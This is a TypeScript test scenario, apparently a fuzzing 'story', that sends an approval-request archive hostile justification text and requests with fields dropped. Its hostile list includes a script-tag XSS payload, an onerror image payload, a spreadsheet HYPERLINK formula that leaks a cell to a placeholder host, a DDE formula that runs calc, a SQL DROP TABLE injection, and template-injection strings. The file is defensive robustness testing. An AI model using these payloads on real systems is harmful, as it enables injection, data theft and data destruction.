import { chooseChange } from '../changes/choose-change.ts';
import { type ApprovalRequestJson } from '../graph-json.ts';
import { type Story } from './story.ts';

/** Text that would do harm where it is not treated as text; all of it inert here. */
const hostile = [
  '<script>alert("countersign")</script> please approve',
  '<img src=x onerror="document.title=\'owned\'"> new logo for Company Portal',
  '=HYPERLINK("http://example.invalid/?leak="&A1,"CHG0047110")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "'; DROP TABLE requests; --",
  '{{constructor.constructor("return 1")()}} ${7*7}',
  'rtl \u202Egnp.exe\u202C and zero\u200Bwidth',
  'Zeilen-\numbruch und\ttab "quotes" \\ backslash',
  '👩🏽‍💻🔐 ok? 👍'.repeat(4),
  `Long story: ${'the vendor asked us to try again and again. '.repeat(22)}`.slice(0, 1024),
];

const droppable: readonly (keyof ApprovalRequestJson)[][] = [
  ['payload', 'payloadSubtype', 'displayPayload'],
  [
    'payloadId',
    'payloadName',
    'payloadType',
    'payloadOperation',
    'payload',
    'displayPayload',
    'addedAssignments',
    'patchPayload',
  ],
  ['payloadName'],
  ['payloadOperation', 'payloadType'],
];

/** Requests as an archive would rather not get them: hostile words, no words, undeclared members missing. */
export const oddShapes: Story = {
  name: 'odd-shapes',
  play(stage) {
    const { random } = stage;
    const change = chooseChange(stage.world, random, stage.now);
    const justification = random.chance(0.2) ? random.pick(['', null]) : random.pick(hostile);
    const request = stage.ask(change, {
      justification,
      without: random.chance(0.5) ? random.pick(droppable) : [],
    });
    if (random.chance(0.3)) {
      stage.reject(request, { note: random.pick([null, '', 'n']) });
      return;
    }
    stage.approve(request, { note: random.pick([null, '', '=1+1', '<b>ok</b>']) });
    stage.complete(request);
    stage.carryOut(request, change);
  },
};
